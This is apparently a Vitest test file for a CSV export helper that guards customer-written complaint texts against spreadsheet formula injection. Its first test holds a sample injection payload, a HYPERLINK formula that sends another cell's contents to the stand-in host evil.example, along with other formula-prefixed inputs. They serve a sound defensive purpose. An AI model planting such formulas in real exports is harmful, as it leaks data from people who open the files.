import { describe, expect, it } from 'vitest';
import { excelCsv, spreadsheetCell } from './csv.ts';

// Complaint texts are written by customers and end up in the exports people open in Excel. An
// audit stored `=HYPERLINK(…)` as a ticket's text: Excel reads a cell beginning like a formula
// as one, quoted or not.

describe('csv - cells a spreadsheet shows, never runs', () => {
  it('puts a \' before a text that begins like a formula, and quotes it where it holds a separator', () => {
    expect(spreadsheetCell('=HYPERLINK("http://evil.example/?d="&B2,"查看详情")')).toBe(`"'=HYPERLINK(""http://evil.example/?d=""&B2,""查看详情"")"`);
    expect(spreadsheetCell('+1+cmd')).toBe("'+1+cmd");
    expect(spreadsheetCell('-2+3')).toBe("'-2+3");
    expect(spreadsheetCell('@SUM(A1)')).toBe("'@SUM(A1)");
    expect(spreadsheetCell('\t=1')).toBe("'\t=1");
    expect(spreadsheetCell('\r=1')).toBe(`"'\r=1"`);
  });

  it('leaves numbers, plain texts and empties as they are', () => {
    expect(spreadsheetCell(-5)).toBe('-5');
    expect(spreadsheetCell('-5')).toBe('-5');
    expect(spreadsheetCell('+0.25')).toBe('+0.25');
    expect(spreadsheetCell('-1e-3')).toBe('-1e-3');
    expect(spreadsheetCell('住房贷款')).toBe('住房贷款');
    expect(spreadsheetCell('a, b')).toBe('"a, b"');
    expect(spreadsheetCell(null)).toBe('');
    expect(spreadsheetCell(['a', 1])).toBe('"[""a"",1]"');
  });

  it('writes a byte-order mark and CRLF lines', () => {
    expect(excelCsv(['类型', 'n'], [['=1', 2]])).toBe("\uFEFF类型,n\r\n'=1,2\r\n");
  });
});
